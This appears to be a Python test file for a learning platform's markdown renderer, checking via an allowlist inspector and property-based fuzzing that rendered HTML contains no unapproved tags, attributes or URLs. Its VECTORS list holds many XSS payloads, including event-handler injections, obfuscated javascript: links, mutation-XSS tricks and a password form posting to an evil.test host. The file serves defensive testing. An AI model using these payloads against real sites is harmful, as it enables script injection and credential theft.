"""Markdown: what nobody gets through, by known attacks and by chance."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.core.markdown import render, render_inline, split_sections
from lms.core.markdown.cleaning import LEAVING_CLASSES, LEAVING_TAGS

MEDIA = {"media/fig.svg": "/media/abc.svg", "media/打招呼.mp3": "/media/def.mp3"}
ATTRIBUTES = {
    "*": {"id", "class"},
    "a": {"href", "title", "rel"},
    "abbr": {"title"},
    "audio": {"src", "controls", "preload", "aria-label"},
    "div": {"role", "tabindex", "aria-label", "data-question"},
    "img": {"src", "alt", "loading"},
    "ol": {"start"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
    "video": {"src", "controls", "preload", "aria-label"},
}


class Inspector(HTMLParser):
    """Says what in a page is not on the list; written apart from the lists it checks."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in LEAVING_TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()):
                self.wrong.append(f"{tag} {name}")
            self.check(tag, name, value or "")

    def check(self, tag: str, name: str, value: str) -> None:
        fine = {
            "class": set(value.split()) <= LEAVING_CLASSES,
            "id": value.startswith("u-"),
            "href": value.startswith(("http:", "https:", "mailto:", "tel:", "#u-", "/"))
            and not value.startswith(("//", "/\\")),
            "src": value.startswith("/") and not value.startswith("//"),
        }
        if not fine.get(name, True):
            self.wrong.append(f"{tag} {name}={value!r}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.wrong.append("instruction")


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<p class='overlay fixed hide'>x</p>",
    "<form action=//evil.test><input name=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)//></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.test'>x</a>",
    "<a href='/\\evil.test'>x</a>",
    "<a href='/\t/evil.test'>x</a>",
    "<a href='\\\\evil.test'>x</a>",
    "<a href='file:///etc/passwd' onclick=alert(1) target=_top ping=//evil.test>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.test)",
    '[x](https:evil.test "onmouseover=alert(1)")',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.test/x.png)",
    '![x" onerror="alert(1)](media/fig.svg)',
    "![x](media/fig.svg 'a\" onerror=\"alert(1)')",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![x](//evil.test/x.png)",
    "x\n{: onclick=alert(1) }",
    "x\n{: style=position:fixed }",
    "x\n{: #login-form .overlay }",
    "[x](http://a.test){: onclick=alert(1) target=_top }",
    "# x {: onclick=alert(1) #document }",
    "<p id=forms name=forms>x</p><a name=cookie>y</a>",
    "<div class=check data-question=X>x</div>",
    "<div class=scroll role=alert tabindex=5 aria-label=x>x</div>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "<!--><script>alert(1)</script>-->",
    "<!-- x --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '!!! case "<script>alert(1)</script>"\n    x',
    '!!! overlay hide "x"\n    x',
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    '[question X" onclick=alert(1)]',
    "\x02script\x03 \x02wzxhzdk:0\x03 \ue000",
    "<b" * 50 + ">",
    "a\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_no_known_attack_gets_through(vector):
    for text in (vector, f"文字 {vector} 文字", f"> {vector}", f"- {vector}\n- b"):
        assert Inspector(render(text, media=MEDIA, questions=True)).wrong == []
        assert Inspector(render_inline(text)).wrong == []


PIECES = """
<b> </b> <script> </script> <svg> <math> <style> <table> <td> <a <img onerror= href= src= style=
javascript: data: // https://a.test " ' > < & &lt; &#60; &#x3a; [ ] ( ) ![ ]( {: } # .c * ** _ `
``` | - 1. : ~~ [^1] [^1]: !!! [question --- <!-- --> <![CDATA[ ]]> \\ = media/fig.svg id= class=
note case caption 客服 x 1
"""
FRAGMENTS = st.lists(
    st.sampled_from([*PIECES.split(), " ", "\n", "\n\n", "    ", "\t", "\x00", "\u2028"]),
    max_size=40,
).map("".join)


@settings(max_examples=250, deadline=None)
@given(st.one_of(FRAGMENTS, st.text(max_size=60)))
def test_whatever_is_written_only_the_list_leaves(text):
    html = render(text, media=MEDIA, questions=True)

    assert Inspector(html).wrong == []
    assert Inspector(render_inline(text)).wrong == []
    assert all(Inspector(section.html).wrong == [] for section in split_sections(html))
